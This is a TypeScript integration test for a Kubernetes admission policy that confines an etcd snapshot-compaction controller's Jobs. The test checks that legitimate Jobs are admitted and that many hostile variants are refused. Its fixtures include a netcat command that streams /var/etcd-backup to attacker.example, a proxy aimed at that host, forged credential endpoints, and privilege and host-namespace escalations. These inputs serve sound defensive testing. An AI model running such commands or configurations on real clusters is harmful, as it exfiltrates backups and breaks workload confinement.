/**
 * deploy/compaction-job-policy.yaml on a real kube-apiserver, as the controller's ServiceAccount
 * (a TokenRequest token) with deploy/ applied, by dry-run creates (admission runs, nothing is stored):
 *
 * - every Job the compaction handler can build is admitted: the Job it hands to `Jobs.create` for each
 *   store provider (with and without a store secret, a Local store at the default and at a secret's
 *   host path, an endpoint override), each deadline, and its image by tag, by digest and by tag and
 *   digest (issue 22, point 7: a digest reference reaches the Job's container unchanged);
 * - the policy is an allow-list: each change a compromised controller could make to that Job is
 *   refused, naming what it refused: another program (lifecycle hooks, exec probes, a command),
 *   another image or another digest of an allowed one, node choice (node name, selector, affinity,
 *   tolerations), weaker confinement (privilege, capabilities, root, AppArmor, SELinux, host
 *   namespaces, seccomp), a longer life (deadline, grace period, suspension, retries), more pods
 *   (parallelism, completions, a manual selector), more of the node (priority, runtime class,
 *   unbounded resources), other names (host aliases, DNS), other volumes, environment and labels;
 * - deletes are limited to compaction Jobs, and other users' Jobs are not the policy's business.
 */
import {
  AdmissionregistrationV1Api,
  BatchV1Api,
  CoreV1Api,
  type KubeConfig,
  type V1Container,
  type V1Deployment,
  type V1Job,
  type V1PodSpec,
  VersionApi,
} from "@kubernetes/client-node";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { DefaultCompactionImage } from "../../src/etcd/on-demand-snapshot-compaction/job-spec.ts";
import {
  compactionTask,
  etcdWithStore,
  MemoryJobs,
  namespace,
  run,
  type StoreOptions,
  s3Store,
  world,
} from "../etcd/on-demand-snapshot-compaction/fixtures.ts";
import { secretObject } from "../etcd/support/fixtures.ts";
import { useControlPlane } from "../support/cluster.ts";
import { applyManifests, deployCrdFiles, deployObjects, theOne } from "../support/deploy-manifests.ts";
import { refusal } from "../support/refusal.ts";

const cluster = useControlPlane({ crds: deployCrdFiles });
const serviceAccount = "system:serviceaccount:opstask-system:opstask";
const policyName = /ValidatingAdmissionPolicy 'opstask-compaction-jobs'/;

const repository = DefaultCompactionImage.slice(0, DefaultCompactionImage.lastIndexOf(":"));
const digest = (hex: string) => `sha256:${hex.repeat(64)}`;
/** Images the test's ConfigMap adds to deploy/'s: one by digest alone, one by tag and digest. */
const byDigest = `${repository}@${digest("a")}`;
const byTagAndDigest = `${DefaultCompactionImage}@${digest("b")}`;

let admin: KubeConfig;
let asController: KubeConfig;

const admitted = { code: 0, message: "admitted" };

/** A dry-run create: admission (the policy included) runs, nothing is stored. */
const create = (kc: KubeConfig, job: V1Job) =>
  refusal(kc.makeApiClient(BatchV1Api).createNamespacedJob({ namespace, body: job, dryRun: "All" }));

interface Built {
  readonly store: StoreOptions;
  readonly image?: string;
  readonly timeoutSeconds?: number;
  readonly secrets?: ReadonlyArray<Record<string, unknown>>;
}

/** The Job the handler's Execute hands to `Jobs.create`, exactly as it hands it. */
const handlerJob = async ({ store, image, timeoutSeconds, secrets = [] }: Built): Promise<V1Job> => {
  let created: V1Job | undefined;
  const outcome = await run(
    "execute",
    compactionTask({
      ...(image === undefined ? {} : { image }),
      ...(timeoutSeconds === undefined ? {} : { timeoutSeconds }),
    }),
    world(etcdWithStore(store), ...secrets),
    new MemoryJobs(),
    {
      defaultImage: DefaultCompactionImage,
      allowedImages: [byDigest, byTagAndDigest],
      jobsShape: (memory) => ({
        ...memory,
        create: (job) => {
          created = structuredClone(job);
          return memory.create(job);
        },
      }),
    },
  );
  expect(outcome.kind).toBe("retry");
  if (created === undefined) throw new Error("the handler created no Job");
  return created;
};

const container = (pod: V1PodSpec): V1Container => {
  const found = pod.containers[0];
  if (found === undefined) throw new Error("no container");
  return found;
};

/** `job` changed by `change` (a copy). */
const changed = (job: V1Job, change: (pod: V1PodSpec, job: V1Job) => void): V1Job => {
  const copy = structuredClone(job);
  const pod = copy.spec?.template.spec;
  if (pod === undefined) throw new Error("the Job has no pod");
  change(pod, copy);
  return copy;
};

const localStore: StoreOptions = { provider: "Local", prefix: "etcd-local", container: "bucket" };
const builds: Array<[string, Built]> = [
  ["S3 with its store secret, the default image by tag", { store: s3Store }],
  ["S3 with the pod's cloud identity (no secret)", { store: { provider: "aws", prefix: "p" } }],
  ["S3 with an endpoint override", { store: { ...s3Store, endpointOverride: "https://minio.example:9000" } }],
  ["Azure", { store: { provider: "azure", prefix: "p", container: "c", secretRef: "etcd-backup" } }],
  ["GCS", { store: { provider: "gcp", prefix: "p", container: "c", secretRef: "etcd-backup" } }],
  ["Swift", { store: { provider: "openstack", prefix: "p", container: "c", secretRef: "etcd-backup" } }],
  ["OSS", { store: { provider: "alicloud", prefix: "p", container: "c", secretRef: "etcd-backup" } }],
  ["OCS", { store: { provider: "openshift", prefix: "p", container: "c", secretRef: "etcd-backup" } }],
  [
    "ECS (credentials as environment variables)",
    { store: { provider: "dell", prefix: "p", secretRef: "ecs" } },
  ],
  ["Local at druid's default host path", { store: localStore }],
  ["Local without a container", { store: { provider: "Local", prefix: "p" } }],
  [
    "Local at its secret's host path",
    {
      store: { ...localStore, secretRef: "local" },
      secrets: [secretObject("local", { hostPath: "/etc/gardener/local-backupbuckets/shoot--a" })],
    },
  ],
  ["the longest deadline", { store: s3Store, timeoutSeconds: 2_147_483_647 }],
  ["the shortest deadline a task may ask (60 s)", { store: s3Store, timeoutSeconds: 60 }],
  ["the image by digest", { store: s3Store, image: byDigest }],
  ["the image by tag and digest, for a Local store", { store: localStore, image: byTagAndDigest }],
];

let cloudJob: V1Job;
let localJob: V1Job;

beforeAll(async () => {
  const plane = cluster();
  admin = plane.makeKubeConfig();
  await admin.makeApiClient(CoreV1Api).createNamespace({ body: { metadata: { name: namespace } } });
  const objects = deployObjects().map((object) =>
    object.kind === "ConfigMap" && object.metadata.name === "opstask-compaction-job-policy"
      ? {
          ...object,
          data: {
            ...(object.data as Record<string, string>),
            images: `${(object.data as Record<string, string>).images}${byDigest}\n${byTagAndDigest}\n`,
          },
        }
      : object,
  );
  await applyManifests(admin, objects);
  asController = plane.kubeConfigForToken(
    await plane.serviceAccountToken("opstask-system", "opstask", { create: false, expirationSeconds: 3600 }),
    serviceAccount,
  );
  cloudJob = await handlerJob({ store: s3Store });
  localJob = await handlerJob({ store: localStore });
  // RBAC and the policy take effect from caches: wait until the handler's Job is admitted and
  // another image is refused by the policy.
  const attacker = changed(cloudJob, (pod) => {
    container(pod).image = "attacker.example/tools:latest";
  });
  await vi.waitFor(
    async () => {
      expect(await create(asController, cloudJob)).toEqual(admitted);
      expect((await create(asController, attacker)).message).toMatch(policyName);
    },
    { timeout: 30_000, interval: 200 },
  );
}, 120_000);

describe("the compaction Job policy (deploy/compaction-job-policy.yaml)", () => {
  it("is served by this kube-apiserver (1.30 or later: admissionregistration.k8s.io/v1)", async () => {
    const version = await admin.makeApiClient(VersionApi).getCode();
    expect(Number(version.major) * 100 + Number.parseInt(version.minor, 10)).toBeGreaterThanOrEqual(130);
    const resources = await admin.makeApiClient(AdmissionregistrationV1Api).getAPIResources();
    expect(resources.resources.map((r) => r.name)).toEqual(
      expect.arrayContaining(["validatingadmissionpolicies", "validatingadmissionpolicybindings"]),
    );
    // Its status (type-checking warnings) is written by kube-controller-manager, which does not run
    // here; that the policy is evaluated is what the refusals below show.
  });

  it("lists the controller's compaction image (built-in default and the Deployment's flag) among the allowed ones", () => {
    const objects = deployObjects();
    const config = objects.find(
      (object) => object.kind === "ConfigMap" && object.metadata.name === "opstask-compaction-job-policy",
    ) as { data?: { images?: string } } | undefined;
    const images = (config?.data?.images ?? "").split("\n").map((line) => line.trim());
    expect(images).toContain(DefaultCompactionImage);
    // Pinning one and not the other would fail every compaction (ERR_CREATE_JOB).
    const deployment = theOne<V1Deployment>(objects, "Deployment");
    const args = deployment.spec?.template.spec?.containers[0]?.args ?? [];
    const flag = args.find((arg) => arg.startsWith("--compaction-image="));
    expect(flag).toBeDefined();
    expect(images).toContain(flag?.slice("--compaction-image=".length));
  });

  it.each(builds)("admits the Job the handler builds for %s", async (_what, build) => {
    const job = await handlerJob(build);
    expect(await create(asController, job)).toEqual(admitted);
  });

  it("passes a digest reference through to the Job's container unchanged, and admits it", async () => {
    for (const image of [byDigest, byTagAndDigest]) {
      const job = await handlerJob({ store: s3Store, image });
      expect(container(job.spec?.template.spec as V1PodSpec).image).toBe(image);
      expect(await create(asController, job)).toEqual(admitted);
    }
  });

  it("compares images as whole references: another digest of an allowed name is refused", async () => {
    for (const image of [
      `${repository}@${digest("c")}`,
      `${DefaultCompactionImage}@${digest("c")}`,
      repository,
    ]) {
      const refused = await create(
        asController,
        changed(cloudJob, (pod) => {
          container(pod).image = image;
        }),
      );
      expect(refused.code).toBe(403);
      expect(refused.message).toMatch(policyName);
      expect(refused.message).toMatch(/is not one the opstask controller may run/);
    }
  });

  const securityContext = (pod: V1PodSpec, change: Record<string, unknown>) => {
    container(pod).securityContext = { ...container(pod).securityContext, ...change };
  };
  const podContext = (pod: V1PodSpec, change: Record<string, unknown>) => {
    pod.securityContext = { ...pod.securityContext, ...change };
  };
  const steal = ["sh", "-c", "tar c /var/etcd-backup | nc attacker.example 443"];
  const tenYears = 10 * 365 * 24 * 3600;
  const tolerateEverything = [{ operator: "Exists" }];
  const refusedField = (path: string) => new RegExp(`refused: .*${path.replace(/[.[\]]/g, "\\$&")}`);
  /** [what, change (to the Local store's Job), what the refusal says] */
  const variants: Array<[string, (pod: V1PodSpec, job: V1Job) => void, RegExp]> = [
    // Another program (issue 22, point 2).
    [
      "a postStart exec hook",
      (pod) => {
        container(pod).lifecycle = { postStart: { exec: { command: steal } } };
      },
      refusedField("spec.template.spec.containers[0].lifecycle"),
    ],
    [
      "a preStop exec hook",
      (pod) => {
        container(pod).lifecycle = { preStop: { exec: { command: steal } } };
      },
      refusedField("spec.template.spec.containers[0].lifecycle"),
    ],
    [
      "an exec liveness probe",
      (pod) => {
        container(pod).livenessProbe = { exec: { command: steal }, periodSeconds: 10 };
      },
      refusedField("spec.template.spec.containers[0].livenessProbe"),
    ],
    [
      "an exec startup probe",
      (pod) => {
        container(pod).startupProbe = { exec: { command: steal } };
      },
      refusedField("spec.template.spec.containers[0].startupProbe"),
    ],
    [
      "an exec readiness probe",
      (pod) => {
        container(pod).readinessProbe = { exec: { command: steal } };
      },
      refusedField("spec.template.spec.containers[0].readinessProbe"),
    ],
    [
      "a command instead of the image's entrypoint",
      (pod) => {
        container(pod).command = steal;
      },
      refusedField("spec.template.spec.containers[0].command"),
    ],
    [
      "another etcdbrctl subcommand",
      (pod) => {
        container(pod).args = ["snapshot", ...(container(pod).args ?? []).slice(1)];
      },
      /`compact` as its first argument/,
    ],
    [
      "a flag the handler never passes",
      (pod) => {
        container(pod).args = [...(container(pod).args ?? []), "--insecure-transport=true"];
      },
      /only the handler's flags/,
    ],
    [
      "an init container",
      (pod) => {
        pod.initContainers = [{ ...container(pod), name: "init" }];
      },
      refusedField("spec.template.spec.initContainers"),
    ],
    [
      "a second container",
      (pod) => {
        pod.containers = [...pod.containers, { ...container(pod), name: "second" }];
      },
      /runs one container, compact-backup/,
    ],
    // Outliving the deadline.
    [
      "a preStop hook with a ten-year grace period",
      (pod) => {
        container(pod).lifecycle = { preStop: { exec: { command: ["sleep", String(tenYears)] } } };
        pod.terminationGracePeriodSeconds = tenYears;
      },
      refusedField("spec.template.spec.containers[0].lifecycle"),
    ],
    [
      "a ten-year grace period",
      (pod) => {
        pod.terminationGracePeriodSeconds = tenYears;
      },
      /terminationGracePeriodSeconds of at most 30/,
    ],
    [
      "an endless deadline",
      (_pod, job) => {
        if (job.spec !== undefined) job.spec.activeDeadlineSeconds = 2_000_000_000;
      },
      /activeDeadlineSeconds of at most/,
    ],
    [
      "retries",
      (_pod, job) => {
        if (job.spec !== undefined) job.spec.backoffLimit = 1_000;
      },
      /backoffLimit 0/,
    ],
    [
      "a pod failure policy that ignores every failure",
      (_pod, job) => {
        if (job.spec !== undefined)
          job.spec.podFailurePolicy = {
            rules: [{ action: "Ignore", onExitCodes: { operator: "NotIn", values: [0] } }],
          };
      },
      /only the handler's pod failure policy/,
    ],
    [
      "a suspended start",
      (_pod, job) => {
        if (job.spec !== undefined) job.spec.suspend = true;
      },
      /not\s+suspended/,
    ],
    [
      "a time to live after it finishes",
      (_pod, job) => {
        if (job.spec !== undefined) job.spec.ttlSecondsAfterFinished = 1;
      },
      refusedField("spec.ttlSecondsAfterFinished"),
    ],
    // Node choice.
    [
      "a node selector, tolerating every taint",
      (pod) => {
        pod.nodeSelector = { "node-role.kubernetes.io/control-plane": "" };
        pod.tolerations = tolerateEverything;
      },
      refusedField("spec.template.spec.nodeSelector"),
    ],
    [
      "node affinity, tolerating every taint",
      (pod) => {
        pod.affinity = {
          nodeAffinity: {
            requiredDuringSchedulingIgnoredDuringExecution: {
              nodeSelectorTerms: [
                { matchExpressions: [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists" }] },
              ],
            },
          },
        };
        pod.tolerations = tolerateEverything;
      },
      refusedField("spec.template.spec.affinity"),
    ],
    [
      "tolerations alone",
      (pod) => {
        pod.tolerations = tolerateEverything;
      },
      refusedField("spec.template.spec.tolerations"),
    ],
    [
      "a node of its choosing",
      (pod) => {
        pod.nodeName = "control-plane-1";
      },
      refusedField("spec.template.spec.nodeName"),
    ],
    [
      "another scheduler",
      (pod) => {
        pod.schedulerName = "attacker-scheduler";
      },
      /placed by the default scheduler/,
    ],
    // Weaker confinement.
    [
      "AppArmor Unconfined for the pod",
      (pod) => podContext(pod, { appArmorProfile: { type: "Unconfined" } }),
      refusedField("spec.template.spec.securityContext.appArmorProfile"),
    ],
    [
      "AppArmor Unconfined for the container",
      (pod) => securityContext(pod, { appArmorProfile: { type: "Unconfined" } }),
      refusedField("spec.template.spec.containers[0].securityContext.appArmorProfile"),
    ],
    [
      "AppArmor unconfined by the pod template's annotation",
      (_pod, job) => {
        const template = job.spec?.template;
        if (template !== undefined)
          template.metadata = {
            ...template.metadata,
            annotations: { "container.apparmor.security.beta.kubernetes.io/compact-backup": "unconfined" },
          };
      },
      refusedField("spec.template.metadata.annotations"),
    ],
    [
      "SELinux spc_t for the pod",
      (pod) => podContext(pod, { seLinuxOptions: { type: "spc_t" } }),
      refusedField("spec.template.spec.securityContext.seLinuxOptions"),
    ],
    [
      "SELinux spc_t for the container",
      (pod) => securityContext(pod, { seLinuxOptions: { type: "spc_t" } }),
      refusedField("spec.template.spec.containers[0].securityContext.seLinuxOptions"),
    ],
    [
      "a privileged container",
      (pod) => securityContext(pod, { privileged: true, allowPrivilegeEscalation: true }),
      refusedField("spec.template.spec.containers[0].securityContext.privileged"),
    ],
    [
      "privilege escalation",
      (pod) => securityContext(pod, { allowPrivilegeEscalation: true }),
      /must not be privileged or allow privilege escalation/,
    ],
    [
      "an added capability",
      (pod) => securityContext(pod, { capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] } }),
      refusedField("spec.template.spec.containers[0].securityContext.capabilities.add"),
    ],
    [
      "a writable root filesystem",
      (pod) => securityContext(pod, { readOnlyRootFilesystem: false }),
      /read-only root filesystem/,
    ],
    ["root", (pod) => podContext(pod, { runAsNonRoot: false, runAsUser: 0 }), /must run as non-root/],
    [
      "root as the container's user",
      (pod) => securityContext(pod, { runAsUser: 0 }),
      refusedField("spec.template.spec.containers[0].securityContext.runAsUser"),
    ],
    [
      "seccomp Unconfined",
      (pod) => podContext(pod, { seccompProfile: { type: "Unconfined" } }),
      /RuntimeDefault seccomp profile/,
    ],
    [
      "the host's network",
      (pod) => {
        pod.hostNetwork = true;
      },
      refusedField("spec.template.spec.hostNetwork"),
    ],
    [
      "the host's PID namespace",
      (pod) => {
        pod.hostPID = true;
      },
      refusedField("spec.template.spec.hostPID"),
    ],
    [
      "a choice of user namespace",
      (pod) => {
        pod.hostUsers = true;
      },
      refusedField("spec.template.spec.hostUsers"),
    ],
    // More pods, more of the node.
    [
      "parallelism 5,000",
      (_pod, job) => {
        if (job.spec !== undefined) job.spec.parallelism = 5_000;
      },
      /completions 1, parallelism 1/,
    ],
    [
      "5,000 completions",
      (_pod, job) => {
        if (job.spec !== undefined) job.spec.completions = 5_000;
      },
      /completions 1, parallelism 1/,
    ],
    [
      "a manual pod selector",
      (_pod, job) => {
        if (job.spec !== undefined) {
          job.spec.manualSelector = true;
          job.spec.selector = {
            matchLabels: { "app.kubernetes.io/component": "etcd-snapshot-compaction" },
          };
        }
      },
      /pod selector is the one the apiserver generates/,
    ],
    [
      "system-node-critical priority",
      (pod) => {
        pod.priorityClassName = "system-node-critical";
      },
      refusedField("spec.template.spec.priorityClassName"),
    ],
    [
      "a runtime class",
      (pod) => {
        pod.runtimeClassName = "runc-unconfined";
      },
      refusedField("spec.template.spec.runtimeClassName"),
    ],
    [
      "unbounded resource requests",
      (pod) => {
        container(pod).resources = { requests: { cpu: "64", memory: "1Ti" }, limits: { memory: "1Ti" } };
      },
      /requests at most 600m CPU and 3Gi memory/,
    ],
    [
      // The pod's memory request would default to its 8Gi limit (issue 35, L9).
      "a memory limit and no memory request",
      (pod) => {
        container(pod).resources = { requests: { cpu: "600m" }, limits: { memory: "8Gi" } };
      },
      /a memory request is required/,
    ],
    [
      "no memory limit",
      (pod) => {
        container(pod).resources = { requests: { cpu: "600m", memory: "3Gi" } };
      },
      /memory limit of\s+at most 8Gi/,
    ],
    [
      "a GPU",
      (pod) => {
        container(pod).resources = {
          requests: { cpu: "600m", memory: "3Gi", "nvidia.com/gpu": "8" },
          limits: { memory: "8Gi", "nvidia.com/gpu": "8" },
        };
      },
      refusedField("spec.template.spec.containers[0].resources.requests.nvidia.com/gpu"),
    ],
    // Other names, volumes, environment, labels.
    [
      "host aliases",
      (pod) => {
        pod.hostAliases = [{ ip: "203.0.113.7", hostnames: ["s3.amazonaws.com"] }];
      },
      refusedField("spec.template.spec.hostAliases"),
    ],
    [
      "custom DNS",
      (pod) => {
        pod.dnsPolicy = "None";
        pod.dnsConfig = { nameservers: ["203.0.113.53"] };
      },
      refusedField("spec.template.spec.dnsConfig"),
    ],
    [
      "the node's DNS",
      (pod) => {
        pod.dnsPolicy = "Default";
      },
      /the\s+cluster's DNS/,
    ],
    [
      "the host's root filesystem",
      (pod) => {
        pod.volumes = [...(pod.volumes ?? []), { name: "root", hostPath: { path: "/" } }];
        container(pod).volumeMounts = [
          ...(container(pod).volumeMounts ?? []),
          { name: "root", mountPath: "/r" },
        ];
      },
      /may mount only/,
    ],
    [
      // (a path with `..` is refused by the API's own validation before the policy runs)
      "a path beside the store's",
      (pod) => {
        pod.volumes = (pod.volumes ?? []).map((volume) =>
          volume.hostPath === undefined
            ? volume
            : {
                ...volume,
                hostPath: { ...volume.hostPath, path: "/etc/gardener/local-backupbuckets-not/root" },
              },
        );
      },
      /may mount only/,
    ],
    [
      "the store's path as a socket",
      (pod) => {
        pod.volumes = (pod.volumes ?? []).map((volume) =>
          volume.hostPath === undefined
            ? volume
            : { ...volume, hostPath: { ...volume.hostPath, type: "Socket" } },
        );
      },
      /may mount only/,
    ],
    [
      "a ConfigMap volume",
      (pod) => {
        pod.volumes = [...(pod.volumes ?? []), { name: "tmp-2", configMap: { name: "x" } }];
      },
      refusedField("spec.template.spec.volumes[tmp-2]"),
    ],
    [
      "a memory-backed workspace",
      (pod) => {
        pod.volumes = (pod.volumes ?? []).map((volume) =>
          volume.emptyDir === undefined ? volume : { ...volume, emptyDir: { medium: "Memory" } },
        );
      },
      refusedField("spec.template.spec.volumes[etcd-workspace-dir]"),
    ],
    [
      "a sub-path mount",
      (pod) => {
        container(pod).volumeMounts = (container(pod).volumeMounts ?? []).map((mount) => ({
          ...mount,
          subPath: "x",
        }));
      },
      refusedField("spec.template.spec.containers[0].volumeMounts[etcd-workspace-dir]"),
    ],
    [
      "a proxy in the environment",
      (pod) => {
        container(pod).env = [
          ...(container(pod).env ?? []),
          { name: "HTTPS_PROXY", value: "http://attacker.example" },
        ];
      },
      /environment variables .*refused: HTTPS_PROXY/,
    ],
    [
      "environment from a ConfigMap",
      (pod) => {
        container(pod).envFrom = [{ configMapRef: { name: "x" } }];
      },
      refusedField("spec.template.spec.containers[0].envFrom"),
    ],
    [
      "a label that puts it behind the etcd's Service",
      (_pod, job) => {
        const template = job.spec?.template;
        if (template?.metadata !== undefined)
          template.metadata.labels = { ...template.metadata.labels, app: "etcd-main" };
      },
      refusedField("spec.template.metadata.labels[app]"),
    ],
    [
      "a ServiceAccount token",
      (pod) => {
        pod.automountServiceAccountToken = true;
      },
      /no ServiceAccount token/,
    ],
    [
      "a ServiceAccount of its own",
      (pod) => {
        pod.serviceAccountName = "admin";
      },
      refusedField("spec.template.spec.serviceAccountName"),
    ],
    [
      // A finalizer the controller never removes keeps the Job, and its pods' history, for ever (L9).
      "a finalizer on the Job",
      (_pod, job) => {
        job.metadata = { ...job.metadata, finalizers: ["example.com/keep"] };
      },
      refusedField("metadata.finalizers"),
    ],
    [
      "a credentials variable pointing elsewhere",
      (pod) => {
        container(pod).env = [
          ...(container(pod).env ?? []),
          { name: "AWS_APPLICATION_CREDENTIALS", value: "/var/etcd/data/forged" },
        ];
      },
      /store variables hold the handler's values/,
    ],
    [
      "a HOME outside the Local store's",
      (pod) => {
        container(pod).env = (container(pod).env ?? []).map((e) =>
          e.name === "HOME" ? { ...e, value: "/tmp" } : e,
        );
      },
      /store variables hold the handler's values/,
    ],
    [
      "no owner task",
      (_pod, job) => {
        job.metadata = { ...job.metadata, ownerReferences: [] };
      },
      /exactly one owner/,
    ],
    [
      "another purpose",
      (_pod, job) => {
        job.metadata = {
          ...job.metadata,
          labels: { ...job.metadata?.labels, "app.kubernetes.io/component": "miner" },
        };
      },
      /only snapshot-compaction Jobs/,
    ],
    [
      "another image",
      (pod) => {
        container(pod).image = "attacker.example/tools:latest";
      },
      /is not one the opstask controller may run/,
    ],
  ];

  it.each(variants)(
    "refuses, from the controller's ServiceAccount, a Job with %s",
    async (_what, change, message) => {
      const refused = await create(asController, changed(localJob, change));
      expect(refused.code).toBe(403);
      expect(refused.message).toMatch(policyName);
      expect(refused.message).toMatch(message);
    },
  );

  describe("an ECS store's variables come from its Secret's keys (issue 35, L9)", () => {
    const ecs = () => handlerJob({ store: { provider: "dell", prefix: "p", secretRef: "ecs" } });
    const setEnv = (job: V1Job, name: string, value: Record<string, unknown>) =>
      changed(job, (pod) => {
        container(pod).env = (container(pod).env ?? []).map((e) =>
          e.name === name ? { name, ...value } : e,
        );
      });
    it("admits the handler's ECS Job", async () => {
      expect(await create(asController, await ecs())).toEqual(admitted);
    });
    it.each([
      [
        "ECS_ENDPOINT as a literal of the controller's choosing",
        "ECS_ENDPOINT",
        { value: "https://attacker.example" },
      ],
      [
        "ECS_ENDPOINT from another key of the Secret",
        "ECS_ENDPOINT",
        { valueFrom: { secretKeyRef: { name: "ecs", key: "accessKeyID" } } },
      ],
      [
        "ECS_ENDPOINT from another Secret",
        "ECS_ENDPOINT",
        { valueFrom: { secretKeyRef: { name: "attacker-endpoint", key: "endpoint" } } },
      ],
      ["ECS_ACCESS_KEY_ID as a literal", "ECS_ACCESS_KEY_ID", { value: "AKIA-attacker" }],
    ])("refuses %s", async (_what, name, value) => {
      const refused = await create(asController, setEnv(await ecs(), name, value));
      expect(refused.code).toBe(403);
      expect(refused.message).toMatch(policyName);
      expect(refused.message).toMatch(/store variables hold the handler's values/);
    });
  });

  it("lets the ServiceAccount delete compaction Jobs only", async () => {
    const batch = admin.makeApiClient(BatchV1Api);
    await batch.createNamespacedJob({
      namespace,
      body: {
        metadata: { name: "payroll", namespace },
        spec: {
          template: {
            spec: { restartPolicy: "Never", containers: [{ name: "run", image: "payroll:1" }] },
          },
        },
      },
    });
    const kept = structuredClone(cloudJob);
    kept.metadata = { ...kept.metadata, name: "kept-compact" };
    await batch.createNamespacedJob({ namespace, body: kept });
    const deleteAs = (kc: KubeConfig, name: string) =>
      refusal(kc.makeApiClient(BatchV1Api).deleteNamespacedJob({ namespace, name, dryRun: "All" }));
    const refused = await deleteAs(asController, "payroll");
    expect(refused.code).toBe(403);
    expect(refused.message).toMatch(/ValidatingAdmissionPolicy 'opstask-compaction-job-deletes'/);
    expect((await deleteAs(asController, "kept-compact")).code).toBe(0);
    expect((await deleteAs(admin, "payroll")).code).toBe(0);
  });

  it("does not judge other users' Jobs", async () => {
    const privileged = changed(localJob, (pod) => {
      container(pod).securityContext = { privileged: true };
      container(pod).image = "busybox";
      pod.tolerations = tolerateEverything;
    });
    expect(await create(admin, privileged)).toEqual(admitted);
  });
});
